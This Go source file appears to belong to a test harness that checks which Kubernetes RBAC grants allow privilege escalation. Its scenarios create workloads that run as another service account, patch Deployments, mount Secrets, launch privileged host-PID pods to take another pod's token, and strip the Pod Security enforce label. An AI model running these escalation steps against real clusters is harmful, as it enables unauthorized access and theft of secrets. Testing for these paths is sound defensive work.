package main

import (
	"context"
	"fmt"
	"strings"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
)

// attack is the image of the attacker.
const attack = "registry.example/attack:1"

// podSpec runs the attacker's image as an account.
func podSpec(account string) corev1.PodSpec {
	return corev1.PodSpec{ServiceAccountName: account, Containers: []corev1.Container{{Name: "main", Image: attack}}}
}

// attacks tells whether a pod runs the attacker's image as the victim.
func attacks(p *corev1.Pod) bool {
	if p.Spec.ServiceAccountName != "victim" {
		return false
	}
	for i := range p.Spec.Containers {
		if p.Spec.Containers[i].Image == attack {
			return true
		}
	}
	for i := range p.Spec.EphemeralContainers {
		if p.Spec.EphemeralContainers[i].Image == attack {
			return true
		}
	}
	return false
}

// runs waits for a pod that runs the attacker's image as the victim, and acts as it.
func (a *attacker) runs(err error) error {
	if err != nil {
		return err
	}
	name, err := a.found(a.ns, attacks)
	if err != nil {
		return err
	}
	v, err := a.inside(a.ns, name)
	if err != nil {
		return err
	}
	return v.becomes(nil)
}

func createPod(a *attacker) error {
	_, err := a.client.CoreV1().Pods(a.ns).Create(a.ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "mine"}, Spec: podSpec("victim")}, metav1.CreateOptions{})
	return a.runs(err)
}

func createDeployment(a *attacker) error {
	labels := map[string]string{"app": "mine"}
	_, err := a.client.AppsV1().Deployments(a.ns).Create(a.ctx, &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: "mine"},
		Spec: appsv1.DeploymentSpec{Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: podSpec("victim")}},
	}, metav1.CreateOptions{})
	return a.runs(err)
}

func createJob(a *attacker) error {
	spec := podSpec("victim")
	spec.RestartPolicy = corev1.RestartPolicyNever
	_, err := a.client.BatchV1().Jobs(a.ns).Create(a.ctx, &batchv1.Job{
		ObjectMeta: metav1.ObjectMeta{Name: "mine"},
		Spec:       batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: spec}},
	}, metav1.CreateOptions{})
	return a.runs(err)
}

// web is a workload of an account without rights.
const web = `
apiVersion: apps/v1
kind: Deployment
metadata: {namespace: "{ns}", name: web}
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec: {containers: [{name: main, image: "registry.example/web:1"}]}
`

func patchDeployment(a *attacker) error {
	patch := fmt.Sprintf(`{"spec":{"template":{"spec":{"serviceAccountName":"victim","containers":[{"name":"main","image":%q}]}}}}`, attack)
	_, err := a.client.AppsV1().Deployments(a.ns).Patch(a.ctx, "web", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{})
	return a.runs(err)
}

// mountPrize creates a pod in the vault that mounts the prize. Its kubelet may read the Secret then, and no sooner.
func mountPrize(a *attacker) error {
	spec := podSpec("")
	spec.NodeName = a.machine.name
	spec.Volumes = []corev1.Volume{{Name: "prize", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "prize"}}}}
	if _, err := a.client.CoreV1().Pods(a.vault).Create(a.ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "mine"}, Spec: spec}, metav1.CreateOptions{}); err != nil {
		return err
	}
	return a.onNode(a.machine.name).seizes()
}

// createPrivileged creates a pod that is root on a node of the attacker's choice.
func createPrivileged(a *attacker) error { return a.settled(a.createsPrivileged) }

func (a *attacker) createsPrivileged() error {
	spec, yes := podSpec(""), true
	spec.NodeName, spec.HostPID = a.machine.name, true
	spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: &yes}
	p, err := a.client.CoreV1().Pods(a.ns).Create(a.ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "root"}, Spec: spec}, metav1.CreateOptions{})
	if err == nil && (!*p.Spec.Containers[0].SecurityContext.Privileged || !p.Spec.HostPID || p.Spec.NodeName != a.machine.name) {
		err = fmt.Errorf("it was changed: %+v: %w", p.Spec, errNothing)
	}
	return err
}

// deployPrivileged leaves it to a controller. Pod Security only warns of the Deployment, and refuses its pods.
func deployPrivileged(a *attacker) error {
	spec, labels, yes := podSpec(""), map[string]string{"app": "root"}, true
	spec.HostPID, spec.Containers[0].SecurityContext = true, &corev1.SecurityContext{Privileged: &yes}
	d, err := a.client.AppsV1().Deployments(a.ns).Create(a.ctx, &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: "root"},
		Spec: appsv1.DeploymentSpec{Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: spec}},
	}, metav1.CreateOptions{})
	if err != nil {
		return err
	}
	var refusal error
	waited := a.waits("a pod or a refusal", func(ctx context.Context) bool {
		if d, err = a.admin.AppsV1().Deployments(a.ns).Get(ctx, "root", metav1.GetOptions{}); err != nil {
			return false
		}
		for _, c := range d.Status.Conditions {
			if c.Type == appsv1.DeploymentReplicaFailure {
				refusal = fmt.Errorf("%w: %s", errNothing, c.Message)
			}
		}
		return refusal != nil || d.Status.ReadyReplicas > 0
	})
	if waited != nil {
		return waited
	}
	return refusal
}

// keeper is a pod of another account on the node, which alone may read another Secret.
const keeper = `
{apiVersion: v1, kind: ServiceAccount, metadata: {namespace: "{vault}", name: keeper}}
---
apiVersion: v1
kind: Pod
metadata: {namespace: "{vault}", name: keeper}
spec: {nodeName: "{node}", serviceAccountName: keeper, containers: [{name: main, image: "registry.example/keep:1"}]}
`

// takeNode is root on the node, and takes the token of another pod there.
func takeNode(a *attacker) error {
	if err := createPrivileged(a); err != nil {
		return err
	}
	k, err := a.inside(a.vault, "keeper")
	if err != nil {
		return err
	}
	secret, err := k.client.CoreV1().Secrets(a.vault).Get(a.ctx, "kept", metav1.GetOptions{})
	if err != nil {
		return err
	}
	return a.prized(secret)
}

// relabel lets Pod Security enforce nothing in the namespace.
func relabel(a *attacker) error {
	if err := a.createsPrivileged(); !refused(err) {
		return fmt.Errorf("a privileged pod before the label is changed: %w", err)
	}
	patch := []byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":null}}}`)
	if _, err := a.client.CoreV1().Namespaces().Patch(a.ctx, a.ns, types.MergePatchType, patch, metav1.PatchOptions{}); err != nil {
		return err
	}
	return createPrivileged(a)
}

func podSchemes() []scheme {
	return []scheme{
		{name: "a pod of another account", hops: "W-01 S-01", held: []right{{"ns", "create pods"}}, walk: createPod, near: []neighbour{
			{"another verb", may(0, "patch,update pods")},
			{"another group", may(0, "create pods.apps")},
			{"a subresource", may(0, "create pods/binding")},
			{"a name, which a request to create has not", may(0, "create pods mine")},
		}},
		{name: "a Deployment of another account", hops: "W-02 S-01", held: []right{{"ns", "create deployments.apps"}}, walk: createDeployment, near: []neighbour{
			{"a group of old", may(0, "create deployments.extensions")},
			{"another kind", may(0, "create controllerrevisions.apps")},
		}},
		{name: "a Job of another account", hops: "W-02 S-01", held: []right{{"ns", "create jobs.batch"}}, walk: createJob, near: []neighbour{
			{"another verb", may(0, "patch,update jobs.batch")},
		}},
		{name: "Deployments that are there", hops: "W-03 S-01", objects: web, held: []right{{"ns", "patch deployments.apps"}}, walk: patchDeployment, near: []neighbour{
			{"another verb", may(0, "delete,deletecollection deployments.apps")},
			{"another kind", may(0, "patch controllerrevisions.apps")},
		}},
		{name: "a Deployment that is there", hops: "W-03 S-01", open: "missing-data", objects: web, held: []right{{"ns", "patch deployments.apps web"}}, walk: patchDeployment, near: []neighbour{
			{"another name", open("patch deployments.apps api", "missing-data")},
			{"a subresource", may(0, "patch deployments/scale.apps web")},
		}},
		{name: "a pod that mounts the Secret", hops: "S-06", held: []right{{"vault", "create pods"}}, walk: mountPrize, near: []neighbour{
			{"another resource", may(0, "create configmaps")},
		}},
		{name: "a privileged pod", hops: "W-04", to: "nodes", level: "privileged", held: []right{{"ns", "create pods"}}, walk: createPrivileged, near: []neighbour{
			{"the level baseline", level("baseline")},
			{"the level restricted", level("restricted")},
		}},
		{name: "a privileged Deployment", hops: "W-04", to: "nodes", level: "privileged", held: []right{{"ns", "create deployments.apps"}}, walk: deployPrivileged, near: []neighbour{
			{"the level baseline", level("baseline")},
		}},
		{name: "a privileged pod next to another", hops: "W-04 K-01", to: "{vault}/Secret/kept", level: "privileged", objects: keeper + strings.Replace("---"+kept, `namespace: "{ns}", name: ghost`, `namespace: "{vault}", name: keeper`, 1), held: []right{{"ns", "create pods"}}, walk: takeNode, near: []neighbour{
			{"the level baseline", level("baseline")},
		}},
		{name: "a privileged pod where no level is set", hops: "W-04", to: "nodes", level: "-", held: []right{{"ns", "create pods"}}, walk: createPrivileged, near: []neighbour{
			{"the level baseline", level("baseline")},
		}},
		{name: "a label that is taken off", hops: "W-04", to: "nodes", held: []right{{"ns", "patch namespaces; create pods"}}, walk: relabel, near: []neighbour{
			{"no pods", may(0, "patch namespaces")},
			{"another namespace", func(s *scheme) { s.held = []right{{"ns", "create pods"}, {"vault", "patch namespaces"}} }},
			{"a subresource", may(0, "patch namespaces/status; create pods")},
		}},
		// Which namespace the name is that a rule gives is not looked at.
		{name: "a label that is taken off, by name", hops: "W-04", open: "missing-data", to: "nodes", held: []right{{"ns", "patch namespaces {ns}; create pods"}}, walk: relabel},
	}
}
